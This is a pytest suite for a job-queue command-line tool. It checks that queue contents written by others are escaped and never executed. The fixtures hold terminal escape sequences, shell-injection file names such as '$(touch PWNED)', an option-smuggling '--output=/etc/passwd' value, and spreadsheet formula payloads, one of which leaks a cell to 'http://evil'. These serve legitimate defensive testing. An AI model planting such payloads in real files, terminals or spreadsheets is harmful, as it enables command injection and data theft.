"""Others can write to the share: what they write is shown, and never obeyed."""

import json
import os
import shutil
import subprocess
import sys

import click
import pytest
from click.shell_completion import ShellComplete
from click.testing import CliRunner

from dirjobs.cli import SECTIONS, main
from dirjobs.files.workspace import make, new_note
from dirjobs.layout import JOURNAL, TRASH, WORKERS
from dirjobs.names import problem_of_this_system
from dirjobs.policy import Mode, Policy
from dirjobs.recovery.heartbeat import Heartbeat
from dirjobs.recovery.process import Process
from tests.amounts import PATIENCE
from tests.cli.conftest import Queue
from tests.command_line import DIRJOBS, environment

OBEYED = {
    "an escape sequence": "\x1b]52;c;aGk=\x07",
    "a cleared screen": "\x1b[2J",
    "C1": "\x9b31m",
    "a direction": "\u202e",
    "an isolate": "\u2066",
    "nothing to see": "\u200b",
    "a forged line": "\n   done: all",
}
HOSTILE = "".join(OBEYED.values())
NAME = "a\u200b\u061c\u00ad\U000e0041.json"
"""A store takes it, and so do we; what names can't have, no listing of ours has."""

WITH_JOBS = {
    "00_waiting": NAME,
    "01_running": f"w9.b{NAME}",
    "02_done": f"c{NAME}",
    "99_failed": f"d{NAME}",
    "_queue/parked": f"w9.e{NAME}",
    "_queue/trash": f"f{NAME}",
}
FAILS = f"import sys; sys.stdout.buffer.write({f'bye{HOSTILE}'.encode()!r}); sys.exit(3)"

COMMANDS = {
    "init": [["--no-check"]],
    "add": [
        ["--param", "x=1"],
        ["--sign", "{copy}"],
        ["{file}"],
        ["{copy}"],
        ["{copy}", "--skip-existing"],
    ],
    "work": [
        ["--", "true"],
        ["-vv", "--", sys.executable, "-c", FAILS],
        ["--", "echo", "{lr}"],
        ["--", "{name}"],
        ["--wid", "w9", "--max-jobs", "1", "--", "true"],
    ],
    "deliver": [[], ["--list"]],
    "status": [[], ["-vv"]],
    "watch": [["--until-done", "--interval", "0.1"]],
    "list": [[], ["--names"], ["--state", "parked"]],
    "show": [[f"d{NAME}"], [f"b{NAME}"], [f"x{NAME}"], ["x\x1b[2J"]],
    "logs": [[f"d{NAME}"], [f"x{NAME}"], [f"d{NAME}", "--worker", HOSTILE], [f"d{NAME}", "-f"]],
    "results": [[], ["--csv"], ["-v"]],
    "download": [["-o", "{output}"], [f"x{NAME}", "-o", "{output}"]],
    "wait": [["--timeout", "0"]],
    "check": [["--rounds", "2"]],
    "retry": [
        ["--failed"],
        [f"d{NAME}"],
        ["*"],
        [f"x{NAME}"],
        ["--done", "--all"],
        ["--done", NAME],
    ],
    "requeue": [["*"], ["--dead"], [f"x{NAME}"]],
    "cancel": [["*"], [NAME], [f"x{NAME}"]],
    "remove": [["*"], [NAME], [f"b{NAME}"], [f"x{NAME}"], ["*", "--dry-run"]],
    "clean": [["--older-than", "0d"], ["--older-than", HOSTILE], ["--older-than=0d", "--dry-run"]],
    "pause": [[]],
    "resume": [[]],
    "drain": [["--all"], [HOSTILE]],
}
PRINTS_NOTHING_OF_A_QUEUE = {"login", "demo", "completion", "key", "submit"}


WITHOUT_WORK = ("watch",)
"""Would wait until somebody works."""


def touch(path):
    """Make a file, if this system has files of that name."""
    if problem_of_this_system(path.name) is None:
        path.touch()


@pytest.fixture
def hostile(tmp_path, scratch):
    """A queue in which everything that others may write is as bad as can be."""
    queue = Queue(tmp_path / "jobs")
    queue.store.mkdir(TRASH)
    parameters = {HOSTILE: HOSTILE, "x": f"v{HOSTILE}"}
    for folder, name in WITH_JOBS.items():
        queue.put(folder, name, data=json.dumps(parameters).encode())
    for folder in ("00_waiting", "99_failed", "02_done"):
        for number, bad in enumerate(OBEYED.values()):
            touch(tmp_path / "jobs" / folder / f"z{number}{bad}")
    noted = {"worker": HOSTILE, "at": HOSTILE, "reason": HOSTILE, "died": True}
    for name in (NAME, f"d{NAME}", f"c{NAME}", f"b{NAME}"):
        notes = {"format": 1, "attempts": [noted, noted]}
        queue.put("_queue/attempts", f"{name}.json", data=json.dumps(notes).encode())
    for folder in ("logs", f"results/c{NAME}", f"results/d{NAME}"):
        os.makedirs(tmp_path / "jobs" / folder, exist_ok=True)
        queue.put(folder, "result.json", data=json.dumps({f"r{HOSTILE}": HOSTILE}).encode())
    queue.put(f"results/d{NAME}", "result.json", data=HOSTILE.encode())
    queue.put("logs", f"d{NAME}.w9.log", data=f"said {HOSTILE}\n".encode())
    told = dict.fromkeys(("worker", "host", "end", "reason", "log", "files", "signal"), HOSTILE)
    for number, end in enumerate(("done", "failed", HOSTILE)):
        line = {**told, "job": f"d{NAME}", "command": [HOSTILE], "params": parameters}
        line |= {"result": {HOSTILE: HOSTILE}, "git": {"commit": HOSTILE}, "end": end}
        queue.put(JOURNAL, f"w9.{number}.jsonl", data=json.dumps(line).encode())
    queue.put(JOURNAL, "w8.1.jsonl", data=HOSTILE.encode())
    process = Process(host=HOSTILE, machine=HOSTILE, boot=HOSTILE, pid=1)
    policy = Policy(Mode.TRUST, 0, 0.5, 1, 0.1, 0)
    heartbeat = Heartbeat("w9", 1, policy, process, running={f"b{NAME}": 1, HOSTILE: 1})
    queue.put(WORKERS.rstrip("/"), "w9.abcdef.json", data=heartbeat.to_bytes())
    note = new_note(
        queue=queue.url, queue_id="", job=HOSTILE, claim=f"w9.{HOSTILE}", worker="w9", began=""
    )
    kept = make(str(scratch), note)
    kept.command_ended("now", HOSTILE, b"")
    kept.close()
    yield queue
    queue.store.close()


RUNS = [
    pytest.param(command, arguments, id=f"{command}-{number}")
    for command, lines in COMMANDS.items()
    for number, arguments in enumerate(lines)
]


def filled(arguments, tmp_path):
    touch(tmp_path / "x\x1b[2J")
    touch(tmp_path / NAME)
    values = {
        "{file}": str(tmp_path / "x\x1b[2J"),
        "{copy}": str(tmp_path / NAME),
        "{output}": str(tmp_path / "output"),
    }
    return [values.get(argument, argument) for argument in arguments]


def remove_work(tmp_path):
    for folder in ("00_waiting", "01_running"):
        for file in (tmp_path / "jobs" / folder).iterdir():
            file.unlink()


def test_every_command_is_walked():
    context = click.Context(main)
    known = {name for section in SECTIONS.values() for name in section}
    assert set(COMMANDS) | PRINTS_NOTHING_OF_A_QUEUE == known
    assert all(main.get_command(context, name) for name in COMMANDS)


@pytest.mark.parametrize("where", ["file", "terminal"])
@pytest.mark.parametrize(("command", "arguments"), RUNS)
def test_nothing_is_obeyed(hostile, command, arguments, where, tmp_path, monkeypatch):
    if where == "terminal":
        if command == "check":
            pytest.skip("takes seconds, and prints the same")
        monkeypatch.setattr("click.testing._NamedTextIOWrapper.isatty", lambda _: True)
        monkeypatch.setenv("TERM", "xterm")
    if command in WITHOUT_WORK:
        remove_work(tmp_path)
    result = CliRunner().invoke(main, [command, hostile.url, *filled(arguments, tmp_path)])
    assert isinstance(result.exception, SystemExit | None), result.exception
    told = result.stdout + result.stderr
    if command == "logs":  # what was printed has lines, and a file gets every byte of it
        told = result.stderr if where == "file" else told.replace(OBEYED["a forged line"], "")
    assert [what for what, text in OBEYED.items() if text in told] == []
    assert "Traceback" not in told


@pytest.mark.parametrize(
    ("command", "arguments"),
    [
        pytest.param(command, lines[0], id=command)
        for command, lines in COMMANDS.items()
        if command not in ("work", "deliver", "check")
    ],
)
def test_json_says_the_same_escaped(hostile, command, arguments, tmp_path):
    if command in WITHOUT_WORK:
        remove_work(tmp_path)
    arguments = ["*"] if command in ("retry", "cancel", "requeue", "remove") else arguments
    args = [command, hostile.url, *filled(arguments, tmp_path), "--json"]
    printed = CliRunner().invoke(main, args).stdout
    assert all(line.isprintable() for line in printed.split("\n"))
    documents = [json.loads(printed)]
    if command in ("status", "show", "results", "logs"):
        assert HOSTILE in _texts(documents)


def _texts(value):
    """All texts in a document, in one."""
    if isinstance(value, dict):
        return " ".join(f"{key} {_texts(part)}" for key, part in value.items())
    if isinstance(value, list):
        return " ".join(map(_texts, value))
    return str(value)


@pytest.mark.parametrize(
    "record",
    [
        {"mode": "trust", "refuted": {"why": HOSTILE}},
        {"mode": HOSTILE},
        {"mode": "trust", "lease": HOSTILE},
        {"mode": "trust", "id": HOSTILE},
        [HOSTILE],
        HOSTILE,
    ],
)
def test_nothing_of_the_agreement_is_obeyed(local, record):
    local.put("_queue", "queue.json", data=json.dumps(record).encode())
    local.put("00_waiting", "a")
    lines = [["work", local.url, "--", "true"], ["status", local.url], ["init", local.url]]
    if "refuted" in record:
        lines.append(["check", local.url, "--rounds", "2", "--record"])
    for line in lines:
        result = CliRunner().invoke(main, line)
        assert isinstance(result.exception, SystemExit | None), result.exception
        told = result.stdout + result.stderr
        assert [what for what, text in OBEYED.items() if text in told] == []


# -- completion --------------------------------------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="no bash")
def test_a_name_is_completed_only_if_it_is_a_plain_word(tmp_path):
    queue = tmp_path / "jobs"
    plain = ["lr0.1_seed3.json", "a-b+c,d=1@%.txt", "Jörg.txt", "0"]
    hostile = [
        *("run1$(touch x).txt", "run2`id`", "run3 x", "run4;x", "run5*", "run6'x", 'run7"', "~x"),
        *("-rf", "=ls", "run8\nx", "run9\x1b[2J", "run\u202e", "run|x", "run>x", "run&", "#x"),
        *("run\\x", "run{a,b}", "run!x", "run?", "run[a]", "run^x", "run\tx", "@x", "+x", "%1"),
    ]
    for folder, names in (("00_waiting", plain), ("99_failed", hostile)):
        (queue / folder).mkdir(parents=True)
        for name in names:
            (queue / folder / name).touch()
    complete = ShellComplete(main, {}, "dirjobs", "_DIRJOBS_COMPLETE")
    found = complete.get_completions(["show", str(queue)], "")
    assert sorted(item.value for item in found) == sorted(plain)


BASH = r"""
. <(dirjobs completion bash)
COMP_WORDS=(dirjobs show "$1" run) COMP_CWORD=3
_dirjobs_completion dirjobs show "$1" 2> /dev/null || exit 1
eval "echo dirjobs show $1 ${COMPREPLY[*]}"
"""


@pytest.mark.skipif(sys.platform == "win32", reason="no bash")
def test_what_bash_completes_is_no_command(tmp_path):
    """As somebody would, with TAB and Enter."""
    if (bash := shutil.which("bash")) is None:
        pytest.skip("no bash here")
    queue = tmp_path / "jobs"
    (queue / "00_waiting").mkdir(parents=True)
    for name in ("run1$(touch PWNED).txt", "run2;touch PWNED", "run3.txt"):
        (queue / "00_waiting" / name).touch()
    program = tmp_path / "bin" / "dirjobs"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\nexec {" ".join(DIRJOBS)} "$@"\n')
    program.chmod(0o755)
    env = environment(PATH=f"{program.parent}{os.pathsep}{os.environ['PATH']}")
    told = subprocess.run(
        [bash, "--norc", "-c", BASH, "bash", "jobs"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=PATIENCE, check=True,
    )  # fmt: skip
    assert told.stdout == "dirjobs show jobs run3.txt\n"
    assert not (tmp_path / "PWNED").exists()


# -- values that begin with a dash -------------------------------------------------------------


def test_an_option_out_of_a_parameter_is_passed_and_told_of_once(local):
    local.put("00_waiting", "a.json", "b.json", data=b'{"lr": "--output=/etc/passwd"}')
    local.put("00_waiting", "c.json", data=b'{"lr": -0.5}')
    script = "import sys; print('|'.join(sys.argv[1:]), end='|')"
    local.run("work", "--wid", "w1", "--", sys.executable, "-c", script, "{lr}")
    told = "'--output=/etc/passwd' may be taken for an option"
    assert local.stderr.count(told) == 1
    assert "write -- before the placeholders" in local.stderr
    for job in ("a", "b"):
        log = local.store.read(f"logs/{job}.json.w1.log").decode()
        assert told in log
        assert "--output=/etc/passwd|" in log
    assert "may be taken" not in local.store.read("logs/c.json.w1.log").decode()


@pytest.mark.skipif(sys.platform == "win32", reason="no bash")
def test_a_name_in_a_script_is_refused_before_anything_is_claimed(local, tmp_path):
    local.put("00_waiting", f"a$(touch {tmp_path.name}).txt", "b.json", data=b'{"lr": "1; id"}')
    sentence = local.refused("work", "--", "bash", "-c", "wc -c {} | cat")
    assert 'would be run as code by `bash -c`: write "$DIRJOBS_JOB" instead.' in sentence
    local.run("work", "--filter", "b*", "--", "bash", "-c", "echo {lr}", code=2)
    assert 'write "$DIRJOBS_PARAM_LR" instead.' in local.stderr
    assert len(local.names("00_waiting")) == 2
    local.run("work", "--wid", "w1", "--", "bash", "-c", 'echo "$DIRJOBS_PARAM_LR $1"', "-", "{}")
    assert "\n1; id " in local.store.read("logs/b.json.w1.log").decode()


# -- tables ------------------------------------------------------------------------------------


def test_a_result_is_no_formula(local):
    local.put("02_done", "a.json", data=b'{"lr": -0.5}')
    local.store.mkdir("results")
    local.store.mkdir("results/a.json")
    result = {"note": '=HYPERLINK("http://evil/?"&A1)', "@cmd": "+1+cmd|calc", "z": "-2+3\n=1"}
    local.put("results/a.json", "result.json", data=json.dumps(result).encode())
    assert local.run("results", "--csv").splitlines() == [
        "job,state,lr,note,'@cmd,z",
        'a.json,done,-0.5,"\'=HYPERLINK(""http://evil/?""&A1)",\'+1+cmd|calc,\'-2+3\\n=1',
    ]
    raw = local.run("results", "--csv", "--raw")
    assert '"=HYPERLINK(""http://evil/?""&A1)",+1+cmd|calc,"-2+3\n=1"' in raw
    assert "--raw is for --csv" in local.refused("results", "--raw")


# -- jobs that are called as something of ours is ------------------------------------------------


def test_a_job_called_like_a_part_of_its_workspace(far):
    """By URL the job's file is fetched into a folder where more than it is."""
    names = ["out0", "results", "job", "note.json"]
    far.put("00_waiting", *names, data=b"content")
    script = """if True:
        import os, pathlib, sys
        out = pathlib.Path(os.environ["DIRJOBS_OUT"])
        assert open(sys.argv[1]).read() == "content"
        assert os.listdir(out) == []
        (out / sys.argv[2]).touch()
    """
    far.run("work", "--", sys.executable, "-c", script, "{}", "{name}")
    assert far.jobs() == {"02_done": sorted(names)}
    assert [far.names(far.files(name)) for name in sorted(names)] == [[n] for n in sorted(names)]


# -- values that are nested without end ----------------------------------------------------------


@pytest.mark.parametrize("depth", [60, 500, 900, 100_000])
def test_a_nested_job_ends_no_command(local, tmp_path, depth):
    deep = f'{{"x": {"[" * depth}{"]" * depth}}}'
    local.put("00_waiting", "a.json", "b.json", data=deep.encode())
    local.put("00_waiting", "c.json", data=b'{"x": [[1]]}')
    script = f"""if True:
        import os
        with open(os.path.join(os.environ["DIRJOBS_OUT"], "result.json"), "w") as file:
            file.write('{{"y": ' + '[' * {depth} + '1' + ']' * {depth} + '}}')
    """
    local.run("work", "--", sys.executable, "-c", script)
    rows = local.json("results")
    assert [row.get("x") for row in rows] == [None, None, [[1]]]
    assert "result.json of 3 jobs is no JSON object" in local.stderr
    table = local.run("results", "--csv", "--columns", "job,state,x")
    assert table.splitlines()[-1] == "c.json,done,[[1]]"
    assert local.run("results").count("done") == 3
    (tmp_path / "deep.json").write_text(f"[{deep}]")
    assert "nested too deeply" in local.refused("add", "--from-json", tmp_path / "deep.json")
